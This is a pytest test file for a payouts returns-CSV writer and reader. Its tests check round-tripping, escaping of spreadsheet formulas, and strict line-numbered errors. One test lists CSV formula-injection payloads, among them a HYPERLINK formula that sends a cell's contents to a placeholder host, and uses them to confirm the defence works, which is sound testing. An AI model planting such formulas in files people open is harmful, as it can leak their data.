"""payouts/returns_csv.py: the returns CSV the reconciliation import reads (written by operations staff or
the bank simulator)."""

from __future__ import annotations

import pytest

from payouts import returns_csv


def test_returns_csv_round_trip(tmp_path):
    rows = [returns_csv.ReturnRow(1001, "2", "取引なし"), returns_csv.ReturnRow(1003, "N", "名義相違")]
    path = returns_csv.write_returns_csv(rows, tmp_path / "returns.csv")
    assert path.read_bytes().decode("utf-8").splitlines()[0] == "payment_reference,reason_code,reason"
    assert returns_csv.read_returns_csv(path) == rows
    assert returns_csv.read_returns_csv(returns_csv.write_returns_csv([], tmp_path / "empty.csv")) == []


def test_returns_csv_cells_cannot_be_spreadsheet_formulas(tmp_path):
    """Operations staff open the returns file in a spreadsheet: a reason text that begins like a formula is
    written as text, the reference stays a number, and the reader refuses the altered text rather than
    guessing (the reasons we write never begin with a trigger, so the round trip above is unaffected)."""
    import csv
    import io

    from app import csvsafe

    hostile = ['=HYPERLINK("http://x"&A1,"x")', "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1"]
    rows = [returns_csv.ReturnRow(1000 + i, "9", value) for i, value in enumerate(hostile)]
    path = returns_csv.write_returns_csv(rows, tmp_path / "returns.csv")
    header, *lines = csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline=""))
    assert lines == [[str(1000 + i), "9", "'" + value] for i, value in enumerate(hostile)]
    assert all(csvsafe.restore(line[2]) == value for line, value in zip(lines, hostile))
    with pytest.raises(returns_csv.ReturnsCsvError, match="2 行目"):
        returns_csv.read_returns_csv(path)


@pytest.mark.parametrize(
    ("content", "line"),
    [
        (b"", 1),
        (b"reference,code,reason\n", 1),
        ("payment_reference,reason_code,reason\n1001,2,取引なし\n1002,2\n".encode(), 3),
        ("payment_reference,reason_code,reason\n-5,2,取引なし\n".encode(), 2),
        ("payment_reference,reason_code,reason\n１２,2,取引なし\n".encode(), 2),  # full-width digits
        ("payment_reference,reason_code,reason\n12345678901,2,取引なし\n".encode(), 2),
        ("payment_reference,reason_code,reason\n1001,7,取引なし\n".encode(), 2),
        ("payment_reference,reason_code,reason\n1001,2,名義相違\n".encode(), 2),
        ("payment_reference,reason_code,reason\n1001,2,取引なし\n1001,9,その他\n".encode(), 3),
        ("payment_reference,reason_code,reason\n1001,2,取引なし\n\n1002,9,その他\n".encode(), 3),
        ("payment_reference,reason_code,reason\n1001,9,その他\n".encode() + b"1002,9,\xff\n", 3),  # not UTF-8
    ],
)
def test_returns_csv_reader_is_strict_and_names_the_line(content, line, tmp_path):
    path = tmp_path / "returns.csv"
    path.write_bytes(content)
    with pytest.raises(returns_csv.ReturnsCsvError) as caught:
        returns_csv.read_returns_csv(path)
    assert caught.value.line_number == line
    assert f"{line} 行目" in str(caught.value)
